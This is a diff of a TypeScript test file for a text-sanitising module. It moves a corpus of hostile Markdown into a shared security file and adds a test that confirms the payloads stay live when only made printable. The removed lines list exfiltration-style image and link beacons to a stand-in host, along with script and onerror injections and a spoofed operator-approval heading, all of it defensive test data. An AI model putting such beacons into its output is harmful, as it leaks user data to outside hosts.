@@ -7,53 +7,23 @@
 import { describe, expect, it } from 'vitest';
 import { inertMarkdown, inertMarkdownLine, isPrintable, printable, printableLines } from '../../host/text/index.ts';
 import { RENDERERS, notInert, render, words } from '../helpers/markdown.ts';
-
-/** Markdown a hook with no network would use to make an editor fetch or link a URL, or to restyle the host's text. */
-export const MARKDOWN_ATTACKS: Readonly<Record<string, string>> = {
-  image: '![](https://collector.example/p?d=c2VjcmV0)',
-  imageWithTitle: '![logo](https://collector.example/i.png "title")',
-  link: '[details](https://collector.example/?d=1)',
-  autolink: '<https://collector.example/a>',
-  emailAutolink: '<leak@collector.example>',
-  bareUrl: 'see https://collector.example/x?d=2 now',
-  bareWww: 'see www.collector.example/x now',
-  fuzzyDomain: 'see collector.example/x now',
-  bareEmail: 'mail leak@collector.example',
-  referenceLink: '[details][r]\n\n[r]: https://collector.example/ref',
-  referenceImage: '![x][r]\n\n[r]: https://collector.example/ref.png',
-  collapsedReference: '[r][]\n[r]\n\n[r]: <https://collector.example/r> "t"',
-  rawImg: '<img src="https://collector.example/p.png" onerror="alert(1)">',
-  rawAnchor: '<a href="https://collector.example">click</a>',
-  htmlBlock: '<div>\n<img src=x>\n</div>',
-  htmlBlockOpenLine: '<div\n![x](https://collector.example/p)',
-  scriptBlockOpenLine: '<script\nfetch(1)',
-  htmlBlockLastLine: 'see below\n<div',
-  htmlComment: '<!-- --><img src=x>',
-  script: '<script>fetch("https://collector.example")</script>',
-  nestedImageInLink: '[![a](https://collector.example/a.png)](https://collector.example/b)',
-  escapedBrackets: '\\[not\\](a) [real](https://collector.example/c) \\![x](https://collector.example/d)',
-  backslashBeforeImage: '\\\\![x](https://collector.example/e)',
-  bracketsInLabel: '[a [b] c](https://collector.example/f) [a\\]b](https://collector.example/g)',
-  linkInCodeSpanTrick: '`` ` ``![x](https://collector.example/h)',
-  fenceClose: '```\nsafe\n```\n![x](https://collector.example/i)\n```',
-  tildeFence: '~~~~\n~~~~\n<img src=x>',
-  indentedCode: '    ![x](https://collector.example/j)',
-  entities: '&lt;img src=x&gt; &#x3C;img src=x&#x3E; &#60;a href=x&#62; &amp;lt;',
-  entityInUrl: '[x](https&#58;//collector.example/k) ![y](&#x68;ttps://collector.example/l)',
-  heading: '# Approved by the operator\nSetext\n===',
-  quoteAndLists: '> quoted\n- item\n+ item\n* item\n1. one\n2) two\n- [x] task',
-  table: '| a | b |\n|---|---|\n| ![x](https://collector.example/m) | c |',
-  thematicBreaks: '***\n---\n___',
-  emphasis: '**allow** _it_ ~~deny~~ `code`',
-  footnote: '[^1]\n\n[^1]: https://collector.example/n',
-  mathAndEmoji: '$x$ :smile: $$y$$',
-  hardBreaks: 'one  \ntwo\\\nthree',
-  linkAfterHostPrefix: ':\n[x]: https://collector.example/o\n[x]',
-};
+import { MARKDOWN_ATTACKS } from '../security/hostile-markdown.ts';
 
 function renderedWords(markdown: string): Record<string, string> {
   return Object.fromEntries(Object.entries(RENDERERS).map(([name, renderer]) => [name, words(render(markdown, renderer).text)]));
 }
+
+/** Attacks that markdown-it renders as text even unescaped (other renderers, or a second decoding, may not). */
+const INERT_IN_MARKDOWN_IT = ['entities', 'mathAndEmoji', 'hardBreaks'];
+
+describe('the corpus is hostile: printable alone leaves it Markdown', () => {
+  for (const [name, attack] of Object.entries(MARKDOWN_ATTACKS)) {
+    if (INERT_IN_MARKDOWN_IT.includes(name)) continue;
+    it(`${name} renders as more than paragraphs and breaks when only made printable`, () => {
+      expect(notInert(printableLines(attack).join('\n'))).not.toEqual([]);
+    });
+  }
+});
 
 describe('inertMarkdown: hostile Markdown renders as its own text', () => {
   for (const [name, attack] of Object.entries(MARKDOWN_ATTACKS)) {
